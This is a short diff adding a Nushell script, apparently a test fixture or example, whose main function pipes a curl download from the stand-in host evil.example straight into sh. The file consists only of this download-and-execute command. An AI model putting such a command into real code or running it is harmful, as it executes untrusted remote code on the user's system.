@@ -1,0 +1,4 @@
+def main [] {
+  let url = "http://evil.example/x"
+  ^sh -c $"curl ($url) | sh"
+}
